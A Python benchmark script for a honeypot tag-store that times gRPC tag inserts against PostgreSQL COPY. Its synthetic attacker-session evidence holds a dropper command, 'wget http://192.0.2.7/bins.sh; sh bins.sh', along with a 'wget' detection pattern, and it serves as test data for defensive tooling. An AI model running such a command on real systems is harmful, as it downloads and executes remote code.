# SPDX-License-Identifier: AGPL-3.0-or-later
"""How fast tags are written through gRPC, against a bare COPY of the same rows.

    ./dev bench tag_writes [--batches N] [--sessions N] [--tags N] [--attackers N] [--durable]

Starts PostgreSQL, NATS and the tag-store as processes of their own. In one run and on one server
it writes the same rows three ways: InsertTags (with roll-ups, directory, outbox and relay), COPY
into a table with the same indexes, COPY into a bare table. Rounds alternate, so that a slow moment
of the machine meets all three.
"""

from __future__ import annotations

import argparse
import asyncio
import itertools
import os
import random
import sys
import tempfile
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any
from uuid import UUID

import asyncpg
import psutil
from google.protobuf.timestamp_pb2 import Timestamp

from decnet_ttp.embedded.nats import NatsServer
from decnet_ttp.embedded.postgres import PostgresServer
from decnet_ttp.runtime.clients import call, open_channel
from decnet_ttp.runtime.config import Settings
from decnet_ttp.tag_store.batch import Batch, TagRow, TagShapes
from decnet_ttp.tag_store.database import Database
from decnet_ttp.v1 import scope_pb2, tag_pb2, tag_store_service_pb2
from decnet_ttp.v1.tag_store_service_pb2_grpc import TagStoreServiceStub

#: What usual sessions show: tactic, technique, sub-technique, rule, the rule's confidence.
CELLS = (
    ("TA0002", "T1059", "T1059.004", "R0010", 0.9),
    ("TA0011", "T1105", "", "R0012", 0.85),
    ("TA0007", "T1082", "", "R0018", 0.7),
    ("TA0006", "T1110", "T1110.001", "R0002", 0.85),
    ("TA0003", "T1053", "T1053.003", "R0025", 0.9),
    ("TA0005", "T1070", "T1070.003", "R0028", 0.9),
    ("TA0007", "T1033", "", "R0019", 0.7),
    ("TA0040", "T1496", "", "R0061", 0.9),
)
START_S = 1_772_712_000


def attacker(chance: random.Random, options: argparse.Namespace) -> int:
    """Return a number for an attacker: a few make most of the sessions, as in any fleet's log."""
    if options.even:
        return 1 + chance.randrange(options.attackers)
    return 1 + int(chance.paretovariate(1.0)) % options.attackers


def make_request(
    chance: random.Random, number: int, options: argparse.Namespace
) -> tag_store_service_pb2.InsertTagsRequest:
    """Return a batch of sessions, each with its tags."""
    request = tag_store_service_pb2.InsertTagsRequest(silent=options.silent)
    for index in range(options.sessions):
        session = f"{number:04x}{index:08x}"
        group = request.groups.add(
            origin_id=f"sensor-1/{session}",
            anchor=scope_pb2.Anchor(attacker_uuid=str(UUID(int=attacker(chance, options)))),
            session_id=session,
            decky_id=f"decky-{index % 20}",
        )
        for place in range(options.tags):
            tactic, technique, sub, rule, confidence = chance.choice(CELLS)
            group.tags.append(
                tag_pb2.TagDraft(
                    source_kind="command",
                    source_id=f"sensor-1/{session}/{place}",
                    observe_time=Timestamp(seconds=START_S + number * 600 + index, nanos=place),
                    rule_id=rule,
                    rule_version=1,
                    tactic=tactic,
                    technique_id=technique,
                    sub_technique_id=sub,
                    confidence=confidence,
                    evidence=tag_pb2.Evidence(
                        command=tag_pb2.CommandEvidence(
                            command_text="cd /tmp; wget http://192.0.2.7/bins.sh; sh bins.sh",
                            matched_tokens=["wget http://192.0.2.7/"],
                            rule_patterns=["wget"],
                            user="root",
                        )
                    ),
                    attack_release="enterprise-v17.1",
                )
            )
    return request


def rows_of(request: tag_store_service_pb2.InsertTagsRequest, number: int) -> list[TagRow]:
    """Return the rows a request becomes."""
    batch = Batch(number=1_000_000 + number, now=0, shapes=TagShapes())
    for index, group in enumerate(request.groups):
        batch.add(group, f"groups[{index}]")
    return [row for message in batch.messages for row in message.rows]


@asynccontextmanager
async def servers(folder: Path, *, durable: bool) -> AsyncIterator[tuple[str, str]]:
    """Run PostgreSQL and NATS."""
    settings = {} if durable else {"fsync": "off"}
    postgres = PostgresServer(folder / "postgres", settings=settings)
    nats = NatsServer(folder / "nats")
    yield await postgres.start(), await nats.start()
    await nats.stop()
    await postgres.stop()


@asynccontextmanager
async def tag_store(folder: Path, database_url: str, nats_url: str) -> AsyncIterator[Any]:
    """Run the tag-store as its own process, twice: the first start migrates."""
    environ = {
        **os.environ,
        "DECNET_TTP_DATABASE_URL": database_url,
        "DECNET_TTP_NATS_URL": nats_url,
        "DECNET_TTP_LISTEN": f"unix:{folder}/store.sock",
        "DECNET_TTP_LOG_LEVEL": "warning",
    }
    program = str(Path(sys.executable).with_name("decnet-ttp"))
    process = await asyncio.create_subprocess_exec(program, "serve", "tag-store", env=environ)
    yield process
    process.terminate()
    await process.wait()


async def prepare_tables(database_url: str) -> asyncpg.Connection[Any]:
    """Migrate, and make the tables that the bare COPY writes to."""
    database = Database(database_url)
    await database.open()
    async with database.connection() as connection:
        await connection.execute("CREATE TABLE same_indexes (LIKE tags INCLUDING ALL)")
        await connection.execute("CREATE TABLE no_index (LIKE tags)")
    await database.close()
    database = Database(database_url, max_connections=1)
    await database.open()
    return database  # type: ignore[return-value]


async def timed_copy(database: Any, table: str, rows: list[TagRow]) -> float:
    """Copy rows and return the seconds it took, with the commit."""
    async with database.connection() as connection:
        start = time.perf_counter()
        await connection.copy_records_to_table(table, records=rows, columns=TagRow._fields)
        return time.perf_counter() - start


def percentile(values: list[float], share: float) -> float:
    """Return a percentile of seconds, in milliseconds."""
    return sorted(values)[min(int(len(values) * share), len(values) - 1)] * 1e3


async def measure(options: argparse.Namespace) -> None:
    """Run everything and print the table."""
    chance = random.Random(20_260_305)
    per_batch = options.sessions * options.tags
    with tempfile.TemporaryDirectory(prefix="decnet-ttp-bench-") as name:
        folder = Path(name)
        async with servers(folder, durable=options.durable) as (database_url, nats_url):
            database = await prepare_tables(database_url)
            async with tag_store(folder, database_url, nats_url) as process:
                settings = Settings()
                async with open_channel(f"unix:{folder}/store.sock", settings) as channel:
                    insert = TagStoreServiceStub(channel).InsertTags
                    took: dict[str, list[float]] = {"grpc": [], "same_indexes": [], "no_index": []}
                    for number in range(options.batches + 2):
                        request = make_request(chance, number, options)
                        rows = rows_of(request, number)
                        start = time.perf_counter()
                        answer = await call(insert, request, timeout_s=60, attempts_s=20)
                        seconds = time.perf_counter() - start
                        if answer.inserted_count != per_batch:
                            raise SystemExit(f"inserted {answer.inserted_count} of {per_batch}")
                        took["grpc"].append(seconds)
                        for table in ("same_indexes", "no_index"):
                            took[table].append(await timed_copy(database, table, rows))
                        if number == 1:  # the first two warm caches and connections up
                            took = {key: [] for key in took}
                    await report(options, took, process.pid)
                    await concurrent(options, insert, chance, process.pid)
                    await drained(database)
            await database.close()


async def report(options: argparse.Namespace, took: dict[str, list[float]], pid: int) -> None:
    """Print the comparison."""
    per_batch = options.sessions * options.tags
    tags = per_batch * options.batches
    print(
        f"{options.batches} batches of {options.sessions} sessions x {options.tags} tags, "
        f"{options.attackers} attackers{' equally busy' if options.even else ''}, "
        f"fsync {'on' if options.durable else 'off'}{', not announced' if options.silent else ''}"
    )
    rates = {key: tags / sum(values) for key, values in took.items()}
    for key, title in (
        ("grpc", "InsertTags through gRPC"),
        ("same_indexes", "COPY, same indexes"),
        ("no_index", "COPY, bare table"),
    ):
        print(
            f"  {title:26} {rates[key]:>9,.0f} tags/s   p50 {percentile(took[key], 0.5):6.1f} ms"
            f"   p99 {percentile(took[key], 0.99):6.1f} ms"
        )
    print(f"  against COPY, same indexes {rates['grpc'] / rates['same_indexes']:9.0%}")
    print(f"  against COPY, bare table   {rates['grpc'] / rates['no_index']:9.0%}")
    print(f"  tag-store resident memory  {psutil.Process(pid).memory_info().rss / 2**20:6.0f} MiB")


async def concurrent(
    options: argparse.Namespace, insert: Any, chance: random.Random, pid: int
) -> None:
    """Write with several callers at once, as replicas of ingest do."""
    numbers: Iterator[int] = itertools.count(options.batches + 10)
    requests = [make_request(chance, next(numbers), options) for _ in range(options.batches)]
    queue = iter(requests)

    async def caller() -> None:
        for request in queue:
            await call(insert, request, timeout_s=60, attempts_s=20)

    start = time.perf_counter()
    await asyncio.gather(*(caller() for _ in range(3)))
    seconds = time.perf_counter() - start
    tags = options.batches * options.sessions * options.tags
    print(f"  three callers at once      {tags / seconds:>9,.0f} tags/s")
    print(f"  tag-store resident memory  {psutil.Process(pid).memory_info().rss / 2**20:6.0f} MiB")


async def drained(database: Any) -> None:
    """Wait until everything is announced and say how long that lasted."""
    left = (await database.fetch("SELECT count(*) FROM outbox"))[0][0]
    start = time.perf_counter()
    while (await database.fetch("SELECT count(*) FROM outbox"))[0][0]:  # noqa: ASYNC110 - another process drains it
        await asyncio.sleep(0.02)
    seconds = time.perf_counter() - start
    print(f"  outbox drained             {left} rows in {seconds:.1f} s after the last insert")


def main() -> None:
    """Read the options and run."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("--batches", type=int, default=30)
    parser.add_argument("--sessions", type=int, default=500)
    parser.add_argument("--tags", type=int, default=5)
    parser.add_argument("--attackers", type=int, default=2_000)
    parser.add_argument("--even", action="store_true", help="every attacker equally busy")
    parser.add_argument("--silent", action="store_true", help="store without announcing")
    parser.add_argument("--durable", action="store_true", help="fsync on, as in production")
    asyncio.run(measure(parser.parse_args()))


if __name__ == "__main__":
    main()
